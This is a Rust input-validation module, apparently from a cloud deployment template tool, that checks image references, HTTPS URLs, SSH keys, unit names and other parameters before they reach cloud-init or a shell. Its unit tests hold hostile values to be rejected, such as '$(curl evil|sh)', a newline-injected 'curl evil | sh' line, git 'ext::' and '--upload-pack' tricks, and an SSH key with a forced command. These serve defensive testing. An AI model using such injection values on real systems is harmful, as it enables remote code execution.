//! The grammar of template parameters that reach cloud-init, a shell, a tag or a file name:
//! container image references, HTTPS URLs, domain names, systemd unit names, command lines, SSH
//! public keys, tag values and plain tokens (sizes, versions, CIDRs). Each check refuses control
//! and invisible formatting characters and over-long values before looking at the syntax, so no
//! message ever echoes a raw control character; values are shown through [`shown`].
//!
//! This module only decides whether a string is well formed. Whether a size or a version is
//! offered by a provider is decided later, by synth, against the provider's catalogue.

use std::fmt::Write as _;

/// Longest container image reference (the name part alone is limited to 255 characters).
pub const MAX_IMAGE_LEN: usize = 512;
/// Longest URL.
pub const MAX_URL_LEN: usize = 2048;
/// Longest command line.
pub const MAX_COMMAND_LEN: usize = 4096;
/// Longest SSH public key line.
pub const MAX_SSH_KEY_LEN: usize = 8192;
/// Longest token (size slug, version, CIDR).
pub const MAX_TOKEN_LEN: usize = 64;
/// Longest tag value every supported cloud accepts (AWS: 256 Unicode characters).
pub const MAX_TAG_VALUE_LEN: usize = 256;
/// Longest systemd unit name.
pub const MAX_UNIT_LEN: usize = 255;
/// Longest domain name.
pub const MAX_DOMAIN_LEN: usize = 253;
/// Longest app version (as the core's `App` accepts).
pub const MAX_APP_VERSION_LEN: usize = 128;

/// Why a parameter value is not well formed.
#[non_exhaustive]
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum GrammarError {
    /// Nothing was given.
    #[error("is empty")]
    Empty,
    /// Longer than the grammar allows.
    #[error("has {len} characters, at most {max} are allowed")]
    TooLong {
        /// Characters given.
        len: usize,
        /// Most allowed.
        max: usize,
    },
    /// A control character (line break, tab, NUL, escape, ...).
    #[error("contains the control character {shown} at character {at}; line breaks, tabs and other control characters are not allowed")]
    Control {
        /// The character, escaped (`\u{1b}`).
        shown: String,
        /// Its position (0-based, in characters).
        at: usize,
    },
    /// An invisible formatting character (bidirectional override, zero-width space, line
    /// separator, byte-order mark, ...), which makes text read differently from what runs.
    #[error("contains the invisible formatting character {shown} at character {at}; bidirectional overrides, zero-width and line-separator characters are not allowed")]
    Invisible {
        /// The character, escaped (`\u{202e}`).
        shown: String,
        /// Its position (0-based, in characters).
        at: usize,
    },
    /// Well-formed text that breaks the grammar: what is wrong and what is expected.
    #[error("{0}")]
    Malformed(String),
}

fn malformed(msg: impl Into<String>) -> GrammarError {
    GrammarError::Malformed(msg.into())
}

/// Whether `c` is an invisible formatting character: bidirectional controls, zero-width
/// characters, Unicode line and paragraph separators (line breaks to YAML 1.1), the byte-order
/// mark, interlinear annotations, tag characters and the two BMP non-characters.
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{61c}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{fffe}'
            | '\u{ffff}'
            | '\u{e0000}'..='\u{e007f}'
    )
}

/// `c` as `\u{..}`.
fn escaped(c: char) -> String {
    format!("\\u{{{:x}}}", u32::from(c))
}

/// A value as it may be shown in a message: control and invisible characters escaped, and at
/// most 60 characters of it, followed by its length when it is longer.
pub fn shown(s: &str) -> String {
    const MAX: usize = 60;
    let mut out = String::new();
    for c in s.chars().take(MAX) {
        if c.is_control() || is_invisible(c) {
            out.push_str(&escaped(c));
        } else {
            out.push(c);
        }
    }
    let n = s.chars().count();
    if n > MAX {
        let _ = write!(out, "... ({n} characters)");
    }
    out
}

/// The checks every grammar starts with: not empty, at most `max` characters, no control or
/// invisible character.
pub fn plain_text(s: &str, max: usize) -> Result<(), GrammarError> {
    if s.is_empty() {
        return Err(GrammarError::Empty);
    }
    let mut len = 0;
    for (at, c) in s.chars().enumerate() {
        len += 1;
        if c.is_control() {
            return Err(GrammarError::Control { shown: escaped(c), at });
        }
        if is_invisible(c) {
            return Err(GrammarError::Invisible { shown: escaped(c), at });
        }
    }
    if len > max {
        return Err(GrammarError::TooLong { len, max });
    }
    Ok(())
}

/// A size slug, an engine version or a CIDR block: 1 to 64 characters of ASCII letters, digits,
/// `.`, `_`, `:`, `/` and `-`, not starting with `-`. Whether the provider offers it is checked by synth.
pub fn token(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_TOKEN_LEN)?;
    if s.starts_with('-') {
        return Err(malformed("starts with '-', which would read as an option"));
    }
    match s.chars().find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '/' | '-'))) {
        Some(c) => Err(malformed(format!(
            "contains `{c}`; use ASCII letters, digits, '.', '_', ':', '/' and '-' (for example `small`, `16` or `10.0.0.0/16`)"
        ))),
        None => Ok(()),
    }
}

/// A domain name: dot-separated labels of 1 to 63 ASCII letters, digits and `-`, not starting
/// or ending with `-`, at most 253 characters in all.
pub fn domain_name(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_DOMAIN_LEN)?;
    for label in s.split('.') {
        if label.is_empty() || label.len() > 63 {
            return Err(malformed(format!(
                "`{}` is not a domain name: each dot-separated label has 1 to 63 characters",
                shown(s)
            )));
        }
        if !label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            || label.starts_with('-')
            || label.ends_with('-')
        {
            return Err(malformed(format!(
                "`{}` is not a domain name: labels hold ASCII letters, digits and '-', not at either end",
                shown(s)
            )));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Container image references

const IMAGE_HINT: &str = "write [registry[:port]/]name[:tag][@digest], for example ghcr.io/acme/shop:1.4.2";

/// A container image reference, as the distribution reference grammar defines it:
/// `[domain[:port]/]path[:tag][@algorithm:hex]`, where the path's components are lowercase
/// alphanumeric runs joined by `.`, `_`, `__` or dashes, the tag is `[A-Za-z0-9_][A-Za-z0-9_.-]`
/// up to 128 characters, and the name is at most 255 characters.
pub fn image_reference(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_IMAGE_LEN)?;
    let bad = |what: String| malformed(format!("`{}` is not an image reference: {what}; {IMAGE_HINT}", shown(s)));
    let (rest, digest) = match s.split_once('@') {
        Some((r, d)) => (r, Some(d)),
        None => (s, None),
    };
    if let Some(d) = digest {
        digest_ok(d).map_err(bad)?;
    }
    // A tag follows the last ':' that comes after the last '/' (a ':' before it is a port).
    let (name, tag) = match rest.rfind(':') {
        Some(i) if !rest[i..].contains('/') => (&rest[..i], Some(&rest[i + 1..])),
        _ => (rest, None),
    };
    if let Some(t) = tag {
        let mut chars = t.chars();
        let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
        if !first_ok || t.len() > 128 || !chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-')) {
            return Err(bad(format!(
                "the tag `{t}` must be 1 to 128 characters of letters, digits, '_', '.' and '-', not starting with '.' or '-'"
            )));
        }
    }
    if name.is_empty() {
        return Err(bad("the name is empty".into()));
    }
    if name.len() > 255 {
        return Err(bad(format!("the name has {} characters, at most 255 are allowed", name.len())));
    }
    let parts: Vec<&str> = name.split('/').collect();
    let path = match parts.as_slice() {
        [first, rest @ ..]
            if !rest.is_empty()
                && (first.contains(['.', ':'])
                    || *first == "localhost"
                    || first.bytes().any(|b| b.is_ascii_uppercase())) =>
        {
            registry_ok(first).map_err(bad)?;
            rest
        }
        all => all,
    };
    for c in path {
        path_component_ok(c).map_err(bad)?;
    }
    Ok(())
}

/// `host[:port]`, where the host is a domain name, an IPv4 address or a bracketed IPv6 address.
fn registry_ok(d: &str) -> Result<(), String> {
    let (host, port) = if let Some(inner) = d.strip_prefix('[') {
        let Some((v6, after)) = inner.split_once(']') else {
            return Err(format!("the registry `{d}` opens '[' without closing it"));
        };
        if v6.is_empty() || !v6.bytes().all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.') {
            return Err(format!("the registry `{d}` holds no IPv6 address between brackets"));
        }
        match after {
            "" => ("", None),
            a => match a.strip_prefix(':') {
                Some(p) => ("", Some(p)),
                None => return Err(format!("the registry `{d}` has text after ']'")),
            },
        }
    } else {
        match d.split_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (d, None),
        }
    };
    if let Some(p) = port {
        if p.is_empty() || p.len() > 5 || !p.bytes().all(|b| b.is_ascii_digit()) {
            return Err(format!("the registry port `{p}` is not a number"));
        }
    }
    if !d.starts_with('[') && domain_name(host).is_err() {
        return Err(format!("the registry `{host}` is not a host name"));
    }
    Ok(())
}

/// Lowercase alphanumeric runs separated by `.`, `_`, `__` or one or more `-`.
fn path_component_ok(c: &str) -> Result<(), String> {
    let msg =
        || format!("the path component `{c}` must be lowercase letters and digits, joined by '.', '_', '__' or dashes");
    if c.is_empty() {
        return Err("a path component is empty ('//' or a trailing '/')".into());
    }
    let b = c.as_bytes();
    let alnum = |x: u8| x.is_ascii_lowercase() || x.is_ascii_digit();
    if !alnum(b[0]) || !alnum(b[b.len() - 1]) {
        return Err(msg());
    }
    let mut i = 0;
    while i < b.len() {
        if alnum(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && !alnum(b[i]) {
            i += 1;
        }
        let sep = &c[start..i];
        if !(sep == "." || sep == "_" || sep == "__" || sep.bytes().all(|x| x == b'-')) {
            return Err(msg());
        }
    }
    Ok(())
}

/// `algorithm:hex`, the algorithm being letter-led alphanumeric components joined by `+._-`.
fn digest_ok(d: &str) -> Result<(), String> {
    let Some((alg, hex)) = d.split_once(':') else {
        return Err(format!("the digest `{d}` must be algorithm:hex, for example sha256:<64 hex digits>"));
    };
    let alg_ok = !alg.is_empty()
        && alg.split(['+', '.', '_', '-']).all(|p| {
            p.chars().next().is_some_and(|c| c.is_ascii_alphabetic()) && p.chars().all(|c| c.is_ascii_alphanumeric())
        });
    if !alg_ok {
        return Err(format!("the digest algorithm `{alg}` is not valid"));
    }
    if hex.len() < 32 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err("the digest must hold at least 32 hexadecimal digits".into());
    }
    let want = match alg {
        "sha256" => Some(64),
        "sha512" => Some(128),
        _ => None,
    };
    if want.is_some_and(|w| w != hex.len()) {
        return Err(format!("a {alg} digest has {} hexadecimal digits, not {}", want.unwrap_or(0), hex.len()));
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// URLs

/// Characters allowed in a URL after the host: unreserved, `%` escapes and the delimiters a git
/// URL needs. Shell and quoting characters (`'`, `"`, `` ` ``, `$`, `(`, `)`, `;`, `\`, `!`, `*`,
/// space) are refused even where RFC 3986 allows them: percent-encode them.
fn url_char(c: char) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(c, '-' | '.' | '_' | '~' | '%' | '/' | ':' | '@' | '+' | '=' | ',' | '?' | '&' | '#')
}

/// An `https://` URL: a host (domain name, IPv4 or bracketed IPv6) with an optional port and
/// user information, then a path, query and fragment of URL characters (ASCII letters and digits,
/// `-._~%/:@+=,?&#`) with valid `%` escapes.
pub fn https_url(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_URL_LEN)?;
    let bad = |what: String| malformed(format!("`{}` is not an https URL: {what}", shown(s)));
    let Some(rest) = s.strip_prefix("https://") else {
        return Err(bad("it must start with https:// (for example https://github.com/acme/site.git)".into()));
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    // Brackets only around an IPv6 host.
    let in_authority = |i: usize, c: char| i < end && matches!(c, '[' | ']');
    if let Some((_, c)) = rest.char_indices().find(|(i, c)| !url_char(*c) && !in_authority(*i, *c)) {
        return Err(bad(format!("`{c}` is not allowed; percent-encode it")));
    }
    let bytes = rest.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        if *b == b'%'
            && !(bytes.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                && bytes.get(i + 2).is_some_and(u8::is_ascii_hexdigit))
        {
            return Err(bad("'%' must start a %XX escape".into()));
        }
    }
    let authority = &rest[..end];
    let hostport = match authority.rsplit_once('@') {
        Some((_, hp)) => hp,
        None => authority,
    };
    if hostport.is_empty() {
        return Err(bad("the host is missing".into()));
    }
    registry_ok(hostport).map_err(|e| bad(e.replace("registry", "host")))?;
    if let Some((_, p)) = hostport.rsplit_once(':').filter(|_| !hostport.ends_with(']')) {
        if p.parse::<u16>().map_or(true, |n| n == 0) {
            return Err(bad(format!("the port `{p}` is not from 1 to 65535")));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Units, commands, keys, tags

/// A systemd unit name: `prefix[@instance].type`, of ASCII letters, digits, `:`, `_`, `.`, `\`
/// and `-`, with a known unit type, at most 255 characters.
pub fn unit_name(s: &str) -> Result<(), GrammarError> {
    const TYPES: &[&str] =
        &["service", "socket", "device", "mount", "automount", "swap", "target", "path", "timer", "slice", "scope"];
    plain_text(s, MAX_UNIT_LEN)?;
    let Some((stem, ty)) = s.rsplit_once('.') else {
        return Err(malformed(format!("`{}` has no unit type suffix such as .service", shown(s))));
    };
    if !TYPES.contains(&ty) {
        return Err(malformed(format!("`.{ty}` is not a unit type; use one of: {}", TYPES.join(", "))));
    }
    let (prefix, instance) = match stem.split_once('@') {
        Some((p, i)) => (p, Some(i)),
        None => (stem, None),
    };
    let ok = |p: &str| p.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b':' | b'_' | b'.' | b'\\' | b'-'));
    if prefix.is_empty() || !ok(prefix) || instance.is_some_and(|i| !ok(i)) {
        return Err(malformed(format!(
            "`{}` is not a unit name: use ASCII letters, digits, ':', '_', '.', '\\' and '-', with at most one '@'",
            shown(s)
        )));
    }
    Ok(())
}

/// A command line for `/bin/sh`: one line of at most 4096 characters with no control or
/// invisible character. It is code by design; the template stores it in a file of its own and
/// never splices it into YAML or into another command.
pub fn command_line(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_COMMAND_LEN)?;
    if s.trim().is_empty() {
        return Err(malformed("holds only spaces; give the command that starts the app"));
    }
    Ok(())
}

/// An app version (`1.4.2`, `2026.12.05-rc1`, a commit hash): 1 to 128 ASCII letters, digits,
/// `.`, `_`, `-` and `+`, not starting with `-`. It reaches the app as `APP_VERSION`.
pub fn app_version(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_APP_VERSION_LEN)?;
    if s.starts_with('-') {
        return Err(malformed("starts with '-'; a version starts with a letter or a digit"));
    }
    match s.chars().find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+'))) {
        Some(c) => Err(malformed(format!(
            "contains `{}`; use ASCII letters, digits, '.', '_', '-' and '+' (for example `1.4.2` or `2026.12.05-rc1`)",
            shown(&c.to_string())
        ))),
        None => Ok(()),
    }
}

/// An OpenSSH public key line: `type base64 [comment]`, with no options before the type.
pub fn ssh_public_key(s: &str) -> Result<(), GrammarError> {
    const TYPES: &[&str] = &[
        "ssh-ed25519",
        "ssh-rsa",
        "ecdsa-sha2-nistp256",
        "ecdsa-sha2-nistp384",
        "ecdsa-sha2-nistp521",
        "sk-ssh-ed25519@openssh.com",
        "sk-ecdsa-sha2-nistp256@openssh.com",
    ];
    plain_text(s, MAX_SSH_KEY_LEN)?;
    let mut parts = s.splitn(3, ' ');
    let ty = parts.next().unwrap_or_default();
    if !TYPES.contains(&ty) {
        return Err(malformed(format!(
            "`{}` is not an SSH public key: it must start with a key type ({})",
            shown(s),
            TYPES.join(", ")
        )));
    }
    let blob = parts.next().unwrap_or_default();
    let body = blob.trim_end_matches('=');
    let padding = blob.len() - body.len();
    if body.is_empty()
        || !blob.len().is_multiple_of(4)
        || padding > 2
        || !body.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
    {
        return Err(malformed(format!(
            "the key material after `{ty}` is not base64; paste the whole line of the .pub file"
        )));
    }
    Ok(())
}

/// A tag value as every supported cloud accepts it (AWS's rule, the strictest on characters):
/// at most 256 Unicode letters, digits, spaces and `_ . : / = + - @`.
pub fn tag_value(s: &str) -> Result<(), GrammarError> {
    plain_text(s, MAX_TAG_VALUE_LEN)?;
    match s.chars().find(|c| !(c.is_alphanumeric() || matches!(c, ' ' | '_' | '.' | ':' | '/' | '=' | '+' | '-' | '@')))
    {
        Some(c) => {
            Err(malformed(format!("contains `{c}`; tag values hold letters, digits, spaces and _ . : / = + - @ only")))
        }
        None => Ok(()),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_refuses_controls_invisibles_and_length() {
        assert_eq!(plain_text("", 5), Err(GrammarError::Empty));
        assert!(matches!(plain_text("a\nb", 5), Err(GrammarError::Control { at: 1, .. })));
        for bad in ["a\0", "a\u{1b}[31m", "a\rb", "a\tb", "a\u{7f}", "a\u{85}"] {
            assert!(matches!(plain_text(bad, 50), Err(GrammarError::Control { .. })), "{bad:?}");
        }
        for bad in ["abc\u{202e}gpj", "a\u{200b}b", "a\u{2028}b", "\u{feff}a", "a\u{2066}b"] {
            assert!(matches!(plain_text(bad, 50), Err(GrammarError::Invisible { .. })), "{bad:?}");
        }
        assert_eq!(plain_text("héllo", 5), Ok(()));
        assert_eq!(plain_text("héllo!", 5), Err(GrammarError::TooLong { len: 6, max: 5 }));
        let msg = plain_text("x\u{1b}", 5).unwrap_err().to_string();
        assert!(msg.contains("\\u{1b}") && !msg.contains('\u{1b}'), "{msg}");
    }

    #[test]
    fn shown_escapes_and_truncates() {
        assert_eq!(shown("a\u{1b}b\u{202e}"), "a\\u{1b}b\\u{202e}");
        let long = "x".repeat(100);
        assert_eq!(shown(&long), format!("{}... (100 characters)", "x".repeat(60)));
    }

    #[test]
    fn image_references_follow_the_distribution_grammar() {
        for ok in [
            "nginx",
            "nginx:1.27",
            "library/nginx:latest",
            "ghcr.io/acme/shop:1.4.2",
            "localhost:5000/app",
            "localhost/app:v1",
            "registry.example.com:443/team/my_app__x/web-ui:2024.01_rc-1",
            "[::1]:5000/app:tag",
            "192.168.1.10:5000/a/b",
            "a--b/c.d",
            "MyRegistry/app",
            "acme/shop@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "acme/shop:1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "true",
        ] {
            assert_eq!(image_reference(ok), Ok(()), "{ok}");
        }
        for bad in [
            "",
            "Nginx",
            "acme/Shop",
            "-rf",
            "--privileged",
            "acme//shop",
            "acme/shop/",
            "acme/.shop",
            "acme/shop:",
            "acme/shop:-x",
            "acme/shop:.x",
            "acme/a...b",
            "acme/a___b",
            "acme/shop@sha256:abc",
            "acme/shop@sha256:0123456789abcdef0123456789abcdef",
            "acme/shop@:0123456789abcdef0123456789abcdef",
            "acme/shop 1",
            "acme/shop:1\nruncmd:",
            "$(curl evil|sh)",
            "`id`",
            "a;b",
            "acme/shop:1 --privileged",
            "reg-.io/app",
            "[::1/app",
            "host:port/app",
        ] {
            assert!(image_reference(bad).is_err(), "accepted {bad:?}");
        }
        assert!(image_reference(&format!("acme/{}", "a".repeat(260))).is_err());
        assert!(image_reference(&format!("acme/shop:{}", "a".repeat(129))).is_err());
        assert!(image_reference(&format!("acme/shop:{}", "a".repeat(128))).is_ok());
    }

    #[test]
    fn https_urls() {
        for ok in [
            "https://github.com/acme/site.git",
            "https://git.example/site.git",
            "https://example.invalid/site.git",
            "https://user:tok%2Fen@git.example:8443/a/b.git?ref=main#x",
            "https://[2001:db8::1]/repo.git",
            "https://10.0.0.5/repo",
        ] {
            assert_eq!(https_url(ok), Ok(()), "{ok}");
        }
        for bad in [
            "http://github.com/acme/site.git",
            "git@github.com:acme/site.git",
            "ext::sh -c evil",
            "https://",
            "https:///path",
            "https://-evil.com/x",
            "https://github.com/a b",
            "https://github.com/a'b",
            "https://github.com/$(id)",
            "https://github.com/`id`",
            "https://github.com/a;rm",
            "https://github.com/%zz",
            "https://github.com:0/x",
            "https://github.com:99999/x",
            "https://github.com/x\n - curl evil | sh",
            "https://gith\u{202e}ub.com/x",
            "--upload-pack=evil",
        ] {
            assert!(https_url(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn domain_names() {
        assert_eq!(domain_name("example.com"), Ok(()));
        assert_eq!(domain_name("localhost"), Ok(()));
        for bad in ["", "a..b", "-a.com", "a-.com", "a_b.com", ".com", &format!("{}.com", "a".repeat(64))] {
            assert!(domain_name(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn unit_names() {
        assert_eq!(unit_name(crate::app_boot::APP_UNIT), Ok(()));
        for ok in ["konstacks-app.service", "getty@tty1.service", "a:b_c.timer", "x\\x2d.mount"] {
            assert_eq!(unit_name(ok), Ok(()), "{ok}");
        }
        for bad in ["app", "app.exe", ".service", "a b.service", "a/b.service", "a@b@c.service", "a\n.service"] {
            assert!(unit_name(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn command_lines_are_single_plain_lines() {
        for ok in ["/usr/bin/app", "./server --port 8080 && echo 'up'", "echo $(date) `id`; true"] {
            assert_eq!(command_line(ok), Ok(()), "{ok}");
        }
        for bad in ["", "   ", "a\nb", "a\rb", "a\0b", "a\u{1b}b", "a\u{202e}b", &"a".repeat(4097)] {
            assert!(command_line(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn app_versions() {
        for ok in ["1", "1.4.2", "2026.12.05-rc1", "v2+build.7", "0123abcdef", &"a".repeat(128)] {
            assert_eq!(app_version(ok), Ok(()), "{ok}");
        }
        for bad in ["", "-1", "1 2", "1/2", "1:2", "$(id)", "1\n2", "é", &"a".repeat(129)] {
            assert!(app_version(bad).is_err(), "accepted {bad:?}");
        }
        let msg = app_version("1\u{202e}").unwrap_err().to_string();
        assert!(!msg.contains('\u{202e}'), "{msg}");
    }

    #[test]
    fn ssh_keys() {
        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";
        assert_eq!(ssh_public_key(key), Ok(()));
        assert_eq!(ssh_public_key(&format!("{key} me@laptop (work)")), Ok(()));
        for bad in [
            "",
            "AAAAC3NzaC1lZDI1NTE5",
            "command=\"curl evil|sh\" ssh-ed25519 AAAA",
            "ssh-ed25519",
            "ssh-ed25519 AAA",
            "ssh-ed25519 AA$A",
            "ssh-ed25519 A===",
            &format!("{key}\nssh-rsa AAAA attacker"),
        ] {
            assert!(ssh_public_key(bad).is_err(), "accepted {bad:?}");
        }
    }

    #[test]
    fn tokens_and_tag_values() {
        for ok in ["small", "db-huge", "8.0", "10.0.0.0/33", "banana", "t3.micro"] {
            assert_eq!(token(ok), Ok(()), "{ok}");
        }
        for bad in ["", "a b", "$(id)", "a;b", "a'b", "--privileged", &"a".repeat(65)] {
            assert!(token(bad).is_err(), "accepted {bad:?}");
        }
        for ok in ["dpo@acme.example", "Jane Doe +49 30 1234", "Zoë Ødegård"] {
            assert_eq!(tag_value(ok), Ok(()), "{ok}");
        }
        for bad in ["", "a<b>", "a\"b", "a;b", "$(id)", "a\tb", &"a".repeat(257)] {
            assert!(tag_value(bad).is_err(), "accepted {bad:?}");
        }
    }
}
